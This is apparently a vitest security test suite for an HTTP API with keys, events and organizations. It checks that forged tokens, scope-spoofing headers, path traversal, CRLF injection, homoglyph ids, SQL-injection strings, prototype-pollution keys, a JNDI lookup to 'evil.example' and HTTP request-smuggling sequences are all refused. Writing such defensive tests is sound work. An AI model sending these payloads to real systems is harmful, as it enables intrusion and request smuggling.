/** The list of attacks, first half: who is let in, and what comes in besides a body. Each ends in the documented status, and the system goes on. */
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { digest } from '../../../functions/http/answer.ts';
import { running } from '../../../trial/running.ts';
import { attack, attackPost, goesOn, rawly } from '../../support/system/attack.ts';
import { problemIn } from '../../support/system/problems.ts';
import { registered } from '../../support/system/samples.ts';
import { useSystem } from '../../support/system/use.ts';

const system = useSystem({ without: ['boards', 'changes'] });
let reader: string;
let writer: string;
const EVENT = JSON.stringify(registered('by-attacker'));

beforeAll(async () => {
  await system.post([registered('moonshot', { name: 'Moonshot AI' }), registered('zhipu', { name: 'Zhipu AI' })]);
  await system.idle();
  [reader, writer] = await Promise.all([system.keyWith('read'), system.keyWith('events:write')]);
});
afterEach(async () => {
  await goesOn(system);
  expect(await system.stream('organization/by-attacker')).toEqual([]);
});

const make = async (more: object): Promise<{ id: string; key: string }> => {
  const body = JSON.stringify({ name: 'A key', scopes: ['admin'], ...more });
  return (await system.ask('/v1/keys', { method: 'POST', headers: { 'content-type': 'application/json' }, body })).body;
};

/** Every kind of request that needs a key. */
const everywhere = async (headers: Record<string, string>) => [
  await attack(system, '/v1/organizations/moonshot', { headers }),
  await attack(system, '/v1/events', { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: EVENT }),
  await attack(system, '/v1/keys', { headers }),
  await attack(system, '/v1/keys', { method: 'POST', headers, body: '{"name":"Mine","scopes":["admin"]}' }),
  await attack(system, '/v1/keys/any', { method: 'DELETE', headers }),
  await attack(system, '/v1/restrictions/what-if', { method: 'POST', headers, body: '{}' }),
];

describe('a caller without a key of this system', () => {
  const secret = '0123456789abcdef'.repeat(4);
  it.each<[string, string | undefined]>([
    ['no key', undefined],
    ['no scheme', `dsk_admin_${secret}`],
    ['another scheme', `Basic ${Buffer.from(`admin:${secret}`).toString('base64')}`],
    ['a key that nobody made', `Bearer dsk_admin_${secret}`],
    ['a key with a wildcard', `Bearer dsk_*_${secret}`],
    ['a key with a quote', `Bearer dsk_a'--_${secret}`],
    ['a key of nobody’s prototype', `Bearer dsk___proto____${secret}`],
    ['two keys', `Bearer dsk_a_${secret}, Bearer dsk_b_${secret}`],
    ['a very long key', `Bearer dsk_${'a'.repeat(4000)}_${secret}`],
    [
      'an unsigned token',
      `Bearer ${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from('{"scope":"admin"}').toString('base64url')}.`,
    ],
  ])('is answered by 401 everywhere: %s', async (_, authorization) => {
    for (const answer of await everywhere(authorization === undefined ? {} : { authorization })) {
      problemIn(answer, 401, 'key-missing-or-unknown');
      expect(answer.headers.get('www-authenticate')).toBe('Bearer');
    }
  });

  it('is answered by 401 with the secret of another key, a revoked one, and one that has expired', async () => {
    const [mine, revoked] = [await make({ id: 'mine' }), await make({ id: 'revoked' })];
    const expired = await make({ id: 'expired', expiresAt: new Date(Date.now() + 300).toISOString() });
    const headers = (key: string) => ({ authorization: `Bearer ${key}` });
    for (const { status } of [await attack(system, '/v1/keys', { key: revoked.key })]) expect(status).toBe(200);
    await system.ask('/v1/keys/revoked', { method: 'DELETE' });
    const crossed = mine.key.replace('dsk_mine_', 'dsk_admin_');
    for (const key of [crossed, revoked.key]) {
      for (const answer of await everywhere(headers(key))) problemIn(answer, 401, 'key-missing-or-unknown');
    }
    while ((await attack(system, '/v1/keys', { key: expired.key })).status === 200);
    for (const answer of await everywhere(headers(expired.key))) problemIn(answer, 401, 'key-expired');
  });

  it('is answered by 401 with a key of another stage', async () => {
    const other = await running();
    try {
      const theirs = await other.keyWith('admin');
      expect((await attack(other, '/v1/keys', { key: theirs })).status).toBe(200);
      for (const answer of await everywhere({ authorization: `Bearer ${theirs}` })) problemIn(answer, 401, 'key-missing-or-unknown');
    } finally {
      await other.stop();
    }
  });
});

describe('a key with too small a scope', () => {
  it('is answered by 403, whatever it says of itself', async () => {
    const claims = { 'x-scopes': 'admin', 'x-amzn-scopes': 'admin', 'x-http-method-override': 'GET' };
    const post = { method: 'POST', headers: { ...claims, 'content-type': 'application/json' }, body: EVENT };
    problemIn(await attack(system, '/v1/events', { key: reader, ...post }), 403, 'scope-missing');
    problemIn(await attack(system, '/v1/organizations/moonshot', { key: writer, headers: claims }), 403, 'scope-missing');
    for (const key of [reader, writer]) {
      problemIn(await attack(system, '/v1/keys', { key, ...post, body: '{"name":"Mine","scopes":["admin"]}' }), 403, 'scope-missing');
      problemIn(await attack(system, '/v1/keys', { key, headers: claims }), 403, 'scope-missing');
    }
  });
});

describe('an Id', () => {
  it.each([
    'moonshot%2Fvaluations',
    '..%2F..%2Fkeys',
    '%2e%2e%2fkeys',
    'moonshot%00',
    'moonshot%0d%0aset-cookie:%20a=b',
    'm%D0%BEonshot', // a Cyrillic o
    'moonsho%EF%BD%94', // a t of full width
    'moonshot%E2%80%8B', // a space of no width
    '%E2%80%AEtohsnoom', // from right to left
    'moonshot%20',
    '__proto__',
    'constructor',
    '*',
    '%27%20OR%201=1',
    '$%7Bjndi:ldap:%2F%2Fevil.example%7D',
    'a'.repeat(65),
    'a'.repeat(5000),
  ])('in a path that is no Id, or no known one, is answered by 404: %s', async (id) => {
    const answer = await attack(system, `/v1/organizations/${id}`, { key: reader });
    problemIn(answer, 404, 'organization-unknown');
    expect(answer.headers.get('set-cookie')).toBeNull();
  });

  it.each([
    '../moonshot',
    'moonshot/x',
    'm\u043Eonshot',
    'moonshot\u200B',
    '\u202Etohsnoom',
    'MOONSHOT',
    '__proto__',
    'moonshot\0',
    ' moonshot',
  ])('in an event is refused by 422: %j', async (subject) => {
    problemIn(await attackPost(system, writer, JSON.stringify({ ...registered('x'), subject })), 422, 'invalid-event');
  });
});

describe('a header', () => {
  it('that smuggles a second request, a line or too much is refused before anybody is asked', async () => {
    const { host } = new URL(system.url);
    const head = `POST /v1/events HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${writer}\r\ncontent-type: application/json\r\n`;
    const smuggled = [
      `${head}content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/keys HTTP/1.1\r\nhost: a\r\n\r\n`,
      `${head}content-length: 4\r\ncontent-length: 5\r\n\r\n{}{}{`,
      `${head}x: a\rb\r\ncontent-length: 2\r\n\r\n{}`,
      `${head}x : a\r\ncontent-length: 2\r\n\r\n{}`,
      `${head}transfer-encoding: chunked, identity\r\n\r\n{}`,
      'GET / HTTP/9.9\r\n\r\n',
      'nonsense\r\n\r\n',
    ];
    for (const bytes of smuggled) expect(await rawly(system, bytes).answered).toMatch(/^HTTP\/1\.1 400 /);
    expect(await rawly(system, `${head}x: ${'a'.repeat(100_000)}\r\n\r\n`).answered).toMatch(/^HTTP\/1\.1 431 /);
  });

  it('of a condition that was tampered with is refused by 400, and one that fits nothing changes nothing', async () => {
    const headers = { 'content-type': 'application/json' };
    for (const tag of ['1', '"1" OR 1', 'W/"1"', '"-1"', '"1e9"', '"99999999999"', '**', '"__proto__"']) {
      const answer = await attack(system, '/v1/events', {
        key: writer,
        method: 'POST',
        headers: { ...headers, 'if-match': tag },
        body: EVENT,
      });
      problemIn(answer, 400, 'invalid-parameter');
    }
    const answer = await attack(system, '/v1/events', {
      key: writer,
      method: 'POST',
      headers: { ...headers, 'if-match': '"7"' },
      body: EVENT,
    });
    problemIn(answer, 412, 'version-mismatch');
    for (const tag of ['"', 'W/', `"${'a'.repeat(5000)}"`, '"*"']) {
      const read = await attack(system, '/v1/organizations/moonshot', { key: reader, headers: { 'if-none-match': tag } });
      expect(read.status).toBe(200);
    }
  });
});

describe('a cursor', () => {
  it('that was made up, seal and all, is refused by 400 or begins a page there: it can break nothing', async () => {
    const sealed = (key: unknown) =>
      Buffer.from(JSON.stringify([digest(JSON.stringify(['/v1/organizations', [], key])), key])).toString('base64url');
    const keys = [[], [null], ['\uFFFF'], [{ a: 1 }], [[[]]], [1e308], ['a', 'b', 'c', 'd'], [{ toString: 1 }], ['__proto__']];
    for (const cursor of keys.map(sealed)) {
      const { status } = await attack(system, `/v1/organizations?cursor=${cursor}`, { key: reader });
      expect([200, 400]).toContain(status);
    }
    for (const cursor of ['x', '%00', '..%2F', 'bnVsbA', 'W10', 'e30', 'a'.repeat(5000)]) {
      problemIn(await attack(system, `/v1/organizations?cursor=${cursor}`, { key: reader }), 400, 'invalid-parameter');
    }
  });
});
